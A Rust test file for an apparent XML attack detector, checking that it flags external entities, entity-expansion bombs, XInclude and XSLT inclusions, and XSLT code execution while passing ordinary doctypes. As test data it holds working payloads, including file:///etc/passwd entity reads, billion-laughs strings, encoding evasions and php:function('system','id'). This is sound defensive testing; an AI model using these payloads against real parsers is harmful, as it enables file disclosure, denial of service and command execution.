use proptest::prelude::*;

use super::*;

fn kinds(text: &str) -> Vec<usize> {
    let mut kinds = Vec::new();
    let decoded = plain(text, &Signs::of(text));
    read(&decoded, true, &mut |kind, _| kinds.push(kind));
    kinds
}

#[test]
fn what_is_loaded_from_elsewhere_is_found() {
    for text in [
        r#"<!DOCTYPE r [<!ENTITY e SYSTEM "file:///srv/x">]><r>&e;</r>"#,
        "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://x.example/p.dtd'> %p;]><r/>",
        r#"<!DOCTYPE r PUBLIC "-//X//Y" "http://x.example/r.dtd"><r/>"#,
        r#"<!DOCTYPE r SYSTEM "\\203.0.113.1\x"><r/>"#,
        r#"<r><![CDATA[<!DOCTYPE d [<!ENTITY % p SYSTEM "jar:http://x.example/a!/b"> %p;]>]]></r>"#,
        r#"<!ENTITY % a "<!ENTITY &#37; b SYSTEM 'file:///x'>">"#,
        r#"<!ENTITY % a "&#x3C;&#x21;ENTITY b 'c'>">"#,
        r#"<!ENTITY e PUBLIC "any" "URL">"#,
        r#"<!DOCTYPE r PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://x.example/svg.dtd">"#,
        r#""<!DOCTYPE r PUBLIC \"-//X//Y\" \"http://x.example/r.dtd\"><r/>""#,
        "<!entity\te\nsystem\r\n'php://filter/resource=x'>",
        "+ADwAIQ-ENTITY e SYSTEM +ACI-file:///x+ACI +AD4-",
        "<\0!\0E\0N\0T\0I\0T\0Y\0 \0e\0 \0S\0Y\0S\0T\0E\0M\0 \0\"\0/\0x\0\"\0>\0",
    ] {
        assert_eq!(kinds(text), [EXTERNAL], "{text}");
    }
}

#[test]
fn what_grows_is_found() {
    for text in [
        r#"<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><l>&c;</l>"#,
        r#"<!ENTITY a "&b;"><!ENTITY b "&b;">"#,
        &format!("<!ENTITY a '{}'><r>{}</r>", "x".repeat(8000), "&a;".repeat(1000)),
    ] {
        assert_eq!(kinds(text), [EXPANSION], "{text}");
    }
}

#[test]
fn what_is_brought_in_or_run_is_found() {
    for (text, kind) in [
        (r#"<a><xi:include parse="text" href="file:///srv/x"/></a>"#, INCLUDE),
        (r"<xi:include href='http://x.example/y'/>", INCLUDE),
        (r#"<svg><image x="1" xlink:href="file:///srv/x"/></svg>"#, INCLUDE),
        (r#"<xs:import schemaLocation="http://203.0.113.9/t.xsd"/>"#, INCLUDE),
        (r#"<xsl:import href="https://x.example/a.xsl"/>"#, INCLUDE),
        (r#"<xsl:copy-of select="document('/etc/hosts')"/>"#, INCLUDE),
        (r#"<?xml-stylesheet type="text/xsl" href="http://x.example/a.xsl"?>"#, INCLUDE),
        (r#"<xsl:stylesheet xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">"#, PROGRAM),
        (r#"<xsl:value-of select="php:function('system','id')"/>"#, PROGRAM),
    ] {
        assert_eq!(kinds(text), [kind], "{text}");
    }
}

#[test]
fn honest_documents_are_not() {
    for text in [
        "<!DOCTYPE html>",
        r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#,
        r#"<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">"#,
        r#"<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd">"#,
        r#"<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">"#,
        r#"<!DOCTYPE book SYSTEM "book.dtd" [<!ENTITY one SYSTEM "chapters/one.xml"><!ENTITY copy "©">]>"#,
        r#"<!ENTITY % Inline "(#PCDATA | %inline; | %misc;)*">"#,
        r#"<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "xhtml-lat1.ent">"#,
        r#"<xs:import namespace="http://www.w3.org/XML/1998/namespace" schemaLocation="http://www.w3.org/2001/xml.xsd"/>"#,
        r#"<xs:include schemaLocation="common.xsd"/><xsd:import namespace="x" schemaLocation="https://x.example/t.xsd"/>"#,
        "<use xlink:href=\"#icon\"/>",
        r#"<image href="https://x.example/a.png"/><image href="/static/a.png"/><image href="data:image/png;base64,AA=="/>"#,
        r#"<xsl:value-of select="document('lookup.xml')//x"/>"#,
        "if (a <!b && c < d) { e<f>(g) }",
        "The SYSTEM keyword of an ENTITY loads files; write <!ENTITY name \"value\">.",
        "a+ADs b+AD",
    ] {
        assert!(kinds(text).is_empty(), "{text}");
    }
}

#[test]
fn padding_hides_nothing() {
    let text = format!("{}<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<!ENTITY a 'b'>".repeat(5_000));
    assert_eq!(kinds(&text), [EXTERNAL]);
    let padding = (0..9_000).map(|n| format!("<!ENTITY e{n} 'x'>")).collect::<Vec<_>>().concat();
    let bomb = "<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;'>";
    assert_eq!(kinds(&format!("{padding}{bomb}")), [EXPANSION]);
}

#[test]
fn hostile_documents_are_read_in_linear_time() {
    for piece in
        ["<!ENTITY a '", "<!ENTITY a \"&a", "<a:b x=\"", "<xi:include href='", "+ADw", "<!", "&a;", "<!ENTITY % a '&#"]
    {
        let text = piece.repeat((1 << 20) / piece.len());
        let begun = std::time::Instant::now();
        kinds(&text);
        assert!(begun.elapsed().as_secs() < 3, "{piece:?} took {:?}", begun.elapsed());
    }
}

proptest! {
    #[test]
    fn any_text_is_read(parts in proptest::collection::vec(prop_oneof![
        Just("<!ENTITY "), Just("<!DOCTYPE "), Just("% "), Just("SYSTEM "), Just("PUBLIC "), Just("'"), Just("\""), Just(">"), Just("<xi:include "),
        Just("href="), Just("file:"), Just("&a;"), Just("é"), Just("+ADw-"), Just("a "), Just("\0"), Just("<"), Just("="),
    ], 0..60)) {
        kinds(&parts.concat());
    }
}
